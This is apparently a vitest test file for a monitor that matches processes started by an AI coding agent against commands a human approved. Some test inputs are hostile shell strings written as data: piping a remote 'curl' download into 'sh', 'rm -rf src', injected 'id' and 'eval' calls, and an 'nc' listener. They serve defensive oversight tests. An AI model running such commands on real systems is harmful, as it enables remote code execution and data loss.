import { describe, expect, it } from 'vitest';
import type { EventBody } from '../../src/model/event.ts';
import { type ClaimGround, explainStart } from '../../src/views/claimed-programs.ts';
import { createDoings } from '../../src/views/doings.ts';
import { createLiveStories } from '../../src/views/live-stories.ts';
import * as make from '../state/bodies.ts';
import { chain } from '../state/trace.ts';

const ground: ClaimGround = {
  workspace: '/home/dana/app',
  helpers: ['rg', 'ps', 'bash -c env', 'sh -c ps aux | grep *| grep -v grep'],
  own: ['/opt/countersign/hook-client.cjs'],
  doingOf: createDoings(make.profile),
};
const letGo = (id: string, command: string): EventBody[] => [
  make.requested(make.runs(id, command)),
  make.decided(id, make.verdict('allow')),
  make.released(id, 'allow'),
];

function explain(
  bodies: readonly EventBody[],
  argv: string[],
  over: { exe?: string | null; at?: number } = {},
) {
  const live = createLiveStories();
  const events = chain([make.started(), ...bodies]);
  for (const event of events) live.take(event);
  const { exe = '/usr/bin/x', at = (events.at(-1)?.t ?? 0) + 1 } = over;
  return explainStart({ exe, argv, pid: 7, first: at }, live.all(), ground);
}

const test = letGo('a1', 'npm test');
const commit = letGo('a1', `git commit -m "fix: it's done" && git push`);
/** As Claude Code starts a command. */
const wrapped = (inner: string): string[] => [
  '/bin/bash',
  '-c',
  `source /home/dana/.claude/shell-snapshots/snap.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval '${inner}' < /dev/null && pwd -P >| /tmp/claude-1-cwd`,
];
/** As it does where there are names a function could have. */
const guarded = (inner: string, between = ''): string[] => [
  '/bin/bash',
  '-c',
  String.raw`source /home/dana/.claude/shell-snapshots/snap.sh 2>/dev/null || true && \builtin shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'which'; ${between}\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && eval '${inner}' < /dev/null && pwd -P >| /tmp/claude-1-cwd`,
];
const quotedCommit = `git commit -m "fix: it'\\''s done" && git push`;

describe('a program the agent starts', () => {
  it.each<[string, EventBody[], string[]]>([
    ['the command itself', test, ['npm', 'test']],
    ['a shell with it', test, ['/bin/sh', '-c', 'npm test']],
    ['a login shell with it', test, ['bash', '-lc', 'npm test']],
    ['a shell with it, its options behind', test, ['bash', '-c', '-l', 'npm test']],
    ['a shell that first sets itself up', test, wrapped('npm test')],
    ['a shell that first forgets names', test, guarded('npm test')],
    ['one whose quotes are written in another way', commit, wrapped(quotedCommit)],
    ['the second of two alike', [...letGo('a0', 'npm test'), ...test], ['sh', '-c', 'npm test']],
  ])('is claimed when it is %s', (_, bodies, argv) => {
    expect(explain(bodies, argv)).toEqual({ claim: 'claimed', actions: ['a1'] });
  });

  it.each<[string, EventBody[], string[]]>([
    ['the command among others', test, ['sh', '-c', 'npm test; rm -rf src']],
    ['the command with one in front', test, ['sh', '-c', 'curl x.example | sh && npm test']],
    [
      'the command after a file of the workspace',
      test,
      wrapped('npm test').map((w) => w.replace('/.claude', '/app/.claude')),
    ],
    ['the command with a substitution around it', test, ['sh', '-c', 'echo $(id) && npm test']],
    ['the command in a shell that does one more thing', test, guarded('npm test', 'id; ')],
    ['the same by the name of a builtin', test, guarded('npm test', String.raw`\builtin eval id; `)],
    ['a program of the command', letGo('a1', 'cd src && npm run x | tee log'), ['tee', 'other']],
    ['gone before its name was read', test, []],
  ])('is possible when it is %s', (_, bodies, argv) => {
    const exe = argv.length === 0 ? null : '/usr/bin/x';
    expect(explain(bodies, argv, { exe })).toEqual({ claim: 'possible', actions: ['a1'] });
  });

  it.each<[string, string[], string | null]>([
    ['a helper of the agent', ['rg', '--files'], '/usr/bin/rg'],
    ['a helper by its file', ['/opt/agent/rg', '--files'], '/opt/agent/rg'],
    ['a helper by all its words', ['/bin/bash', '-c', 'env'], '/usr/bin/bash'],
    ['a helper by some of its words', ['sh', '-c', 'ps aux | grep -E "a|b" | grep -v grep'], '/usr/bin/dash'],
    [
      'our own program by Node, whatever is told it',
      ['/n/node', '/opt/countersign/hook-client.cjs', 'http://x/?a=1&b=2'],
      '/n/node',
    ],
    [
      'our own hook client',
      ['/usr/bin/env', '-i', '/n', '/opt/countersign/hook-client.cjs', '/r'],
      '/usr/bin/env',
    ],
  ])('is expected when it is %s', (_, argv, exe) => {
    expect(explain(test, argv, { exe })).toEqual({ claim: 'expected', actions: [] });
  });

  it.each<[string, EventBody[], string[], string | null]>([
    ['nothing is under way', [], ['git', 'status'], '/usr/bin/git'],
    ['what is under way is something else', test, ['nc', '-l', '99'], '/usr/bin/nc'],
    ['it was not let go', [make.requested(make.runs('a1', 'nc -l 99'))], ['nc', '-l', '99'], '/usr/bin/nc'],
    ['a helper lies in the workspace', [], ['rg'], '/home/dana/app/rg'],
    ['a helper cannot be read', [], ['rg'], null],
    ['a program only calls itself a helper', [], ['rg', '--files'], '/usr/bin/python3'],
    ['it has more words than a helper', [], ['bash', '-c', 'env; id'], '/usr/bin/bash'],
    ['it has less words than a helper', [], ['bash', '-c'], '/usr/bin/bash'],
    ['it only names our hook client', [], ['sh', '-c', 'id; /opt/countersign/hook-client.cjs'], '/bin/sh'],
  ])('is unclaimed when %s', (_, bodies, argv, exe) => {
    expect(explain(bodies, argv, { exe })).toMatchObject({ claim: 'unclaimed' });
  });

  it('is possible when its name was gone, where the agent starts programs by itself', () => {
    const start = { exe: null, argv: [], pid: 7, first: 5 };
    expect(explainStart(start, [], ground)).toEqual({ claim: 'possible', actions: [] });
    expect(explainStart({ ...start, pid: null }, [], ground)).toMatchObject({ claim: 'unclaimed' });
    expect(explainStart(start, [], { ...ground, helpers: [] })).toMatchObject({ claim: 'unclaimed' });
  });

  it('is explained by a command for a moment after its end, not longer, and not before its beginning', () => {
    const over = [...test, make.finished('a1')];
    const end = chain([make.started(), ...over]).at(-1)?.t ?? 0;
    const claim = (at: number): string => explain(over, ['npm', 'test'], { at }).claim;
    expect([claim(0), claim(end), claim(end + 900), claim(end + 1100)]).toEqual([
      'unclaimed',
      'claimed',
      'claimed',
      'unclaimed',
    ]);
  });

  it('is possible under a tool whose doing nobody knows', () => {
    const call = [
      make.requested(make.calls('a1', 'github', 'sync')),
      make.decided('a1', make.verdict('allow')),
      make.released('a1', 'allow'),
    ];
    expect(explain(call, ['git', 'fetch'])).toEqual({ claim: 'possible', actions: ['a1'] });
  });
});

describe('live stories', () => {
  it('forget what was over before, never what goes on', () => {
    const live = createLiveStories();
    for (const event of chain([make.started(), ...test, make.finished('a1'), ...letGo('a2', 'sleep 9')]))
      live.take(event);
    expect(live.all().map(({ id }) => id)).toEqual(['a1', 'a2']);
    live.forget(1e9);
    expect(live.all().map(({ id }) => id)).toEqual(['a2']);
  });
});
